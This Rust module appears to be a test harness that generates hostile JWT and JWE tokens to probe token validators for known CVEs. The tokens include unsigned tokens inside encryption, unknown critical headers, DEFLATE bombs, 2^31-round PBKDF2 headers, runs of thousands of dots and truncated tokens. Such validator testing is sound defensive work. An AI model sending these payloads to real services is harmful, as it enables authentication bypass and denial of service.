//! What is no plain signed token, or more of it than there may be.

use aws_lc_rs::aead::{AES_256_GCM, Aad, LessSafeKey, Nonce, UnboundKey};
use aws_lc_rs::rsa::{OAEP_SHA256_MGF1SHA256, OaepPublicEncryptingKey, PublicEncryptingKey};

use super::{Forge, Target, and, encode};

/// CVE-2025-59420 (Authlib), CVE-2026-32597 (PyJWT), RFC 7515 section 4.1.11, RFC 7797 section 6: what is critical and
/// not understood.
pub fn an_unknown_critical_header(target: &Target) -> Vec<String> {
    [
        r#""crit":["x"]"#,
        r#""crit":["x"],"x":1"#,
        r#""crit":["exp"],"exp":9999999999"#,
        r#""crit":["alg"]"#,
        r#""crit":[]"#,
        r#""crit":"x""#,
        r#""crit":null"#,
        r#""crit":["b64"],"b64":false"#,
        r#""crit":["b64"],"b64":true"#,
        r#""b64":false"#,
        r#""x":1"#,
    ]
    .map(|members| target.headed_and(members))
    .into()
}

/// CVE-2026-29000 (pac4j), CVE-2023-51774 (json-jwt): an encrypted token around an unsigned one. Whoever has the public
/// key can make it.
pub fn an_encrypted_token(target: &Target) -> Vec<String> {
    let plain = format!("{}.{}.", encode(r#"{"alg":"none","typ":"at+jwt"}"#), encode(&target.claims));
    let mut tokens = Vec::new();
    for content in [plain, target.claims.clone(), target.good()] {
        if let Ok(public) = PublicEncryptingKey::from_der(&target.forge.public_der()) {
            tokens.push(jwe(&target.forge, public, content.as_bytes()));
        }
        let parts = ["RSA-OAEP-256", "ECDH-ES", "dir", "A256KW"].map(|alg| {
            let header =
                format!(r#"{{"alg":"{alg}","enc":"A256GCM","cty":"JWT","kid":"{}"}}"#, target.forge.kid);
            [encode(header), String::new(), encode([0; 12]), encode(&content), encode([0; 16])].join(".")
        });
        tokens.extend(parts);
    }
    let nested = target.forge.sign(&and(&target.forge.header(), r#""cty":"JWT""#), &target.good());
    let good = target.good();
    tokens.extend([
        nested,
        target.says(&format!("\"{good}\"")),
        format!("{good}.{good}"),
        format!("{good}.."),
    ]);
    tokens
}

/// RSA-OAEP-256 and A256GCM (RFC 7516), really encrypted.
fn jwe(forge: &Forge, public: PublicEncryptingKey, content: &[u8]) -> String {
    let key = [7; 32];
    let public = OaepPublicEncryptingKey::new(public).expect("an RSA key");
    let mut wrapped = vec![0; public.ciphertext_size()];
    public.encrypt(&OAEP_SHA256_MGF1SHA256, &key, &mut wrapped, None).expect("it fits");
    let header = encode(format!(
        r#"{{"alg":"RSA-OAEP-256","enc":"A256GCM","cty":"JWT","kid":"{}","typ":"at+jwt"}}"#,
        forge.kid
    ));
    let mut hidden = content.to_vec();
    let tag = LessSafeKey::new(UnboundKey::new(&AES_256_GCM, &key).expect("32 bytes"))
        .seal_in_place_separate_tag(
            Nonce::assume_unique_for_key([0; 12]),
            Aad::from(header.as_bytes()),
            &mut hidden,
        );
    let tag = tag.expect("it encrypts anything");
    [header, encode(wrapped), encode([0; 12]), encode(hidden), encode(tag)].join(".")
}

/// CVE-2024-28176 and -28180 (jose, go-jose), CVE-2024-33664 (python-jose), CVE-2025-62706 (Authlib): a small token that
/// inflates; CVE-2023-52428 (Nimbus), CVE-2023-31582 (jose4j): 2^31 rounds of PBKDF2. The rounds would take an hour.
pub fn work_without_end(target: &Target) -> Vec<String> {
    let kid = &target.forge.kid;
    // A DEFLATE block that repeats one byte as long as its input goes on.
    let bomb = encode([&[0xec, 0xc1, 0x01, 0x01][..], &[0; 5_000]].concat());
    let encrypted = |header: String| {
        [encode(header), encode([1; 40]), encode([0; 12]), bomb.clone(), encode([0; 16])].join(".")
    };
    let rounds = 1_u64 << 31;
    vec![
        target.headed_and(r#""zip":"DEF""#),
        target.forge.sign_parts(&encode(and(&target.forge.header(), r#""zip":"DEF""#)), &bomb),
        encrypted(format!(r#"{{"alg":"dir","enc":"A256GCM","zip":"DEF","kid":"{kid}"}}"#)),
        encrypted(format!(
            r#"{{"alg":"PBES2-HS512+A256KW","enc":"A256GCM","p2c":{rounds},"p2s":"AAAAAAAAAAA","kid":"{kid}"}}"#
        )),
        target.headed_and(&format!(r#""p2c":{rounds},"p2s":"AAAAAAAAAAA""#)),
        // Deep and wide JSON, in the part that is read before the signature is judged.
        target.headed_and(&format!(r#""x":{}{}"#, "[".repeat(2_500), "]".repeat(2_500))),
        target.headed_and(&(0..500).map(|n| format!(r#""{n}":0"#)).collect::<Vec<_>>().join(",")),
    ]
}

/// CVE-2025-30204 (golang-jwt), CVE-2025-27144 (go-jose), CVE-2025-22868 (x/oauth2), CVE-2026-48525 (PyJWT): a split at
/// each dot takes memory for each.
pub fn dots_without_end(target: &Target) -> Vec<String> {
    let good = target.good();
    let dots = |count: usize| ".".repeat(count);
    let mut tokens: Vec<_> = [1, 2, 3, 4, 1_000, 8_000, 8 * 1024 + 1, 20_000].map(dots).into();
    tokens.extend([
        format!("{good}{}", dots(4_000)),
        format!("{}{good}", dots(4_000)),
        "a.".repeat(4_000),
        good.replace('.', ".."),
    ]);
    tokens
}

/// CVE-2026-27840 (ZITADEL): a token that was cut short is no token.
pub fn every_beginning_of_a_token(target: &Target) -> Vec<String> {
    let good = target.good();
    (1..good.len()).map(|length| good[..length].to_owned()).collect()
}

/// RFC 7515 sections 2 and 7.2, Wycheproof's base64 cases: other spellings of a good token, and its JSON serializations.
pub fn a_second_spelling(target: &Target) -> Vec<String> {
    let good = target.good();
    let parts: Vec<_> = good.split('.').collect();
    let [header, payload, signature] = parts[..] else { panic!("three parts") };
    // The last character of 64 bytes carries four bits that must be zero.
    let loose = format!("{}{}", &signature[..signature.len() - 1], successor(signature));
    let flat = format!(r#"{{"protected":"{header}","payload":"{payload}","signature":"{signature}"}}"#);
    let general = format!(
        r#"{{"payload":"{payload}","signatures":[{{"protected":"{header}","signature":"{signature}"}}]}}"#
    );
    vec![
        format!("{good}="),
        format!("{good}=="),
        format!("{header}.{payload}.{loose}"),
        format!("{header}.{payload}.{signature}A"),
        format!("{header}=.{payload}.{signature}"),
        format!("{header}.{payload}=.{signature}"),
        format!("{header}.{payload}.~{signature}"),
        format!("{good}."),
        format!(".{good}"),
        format!("{header}..{payload}.{signature}"),
        target.forge.sign_parts(&format!("{header}="), payload),
        target.forge.sign_parts(header, &format!("{payload}==")),
        format!(" {good}"),
        format!("{good}\n"),
        format!("{header}\u{0}.{payload}.{signature}"),
        flat,
        general,
    ]
}

/// The character after the last one of the text in the alphabet.
fn successor(text: &str) -> &'static str {
    const ALPHABET: &str = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
    let at = text.chars().last().and_then(|last| ALPHABET.find(last)).expect("base64url");
    &ALPHABET[at + 1..at + 2]
}
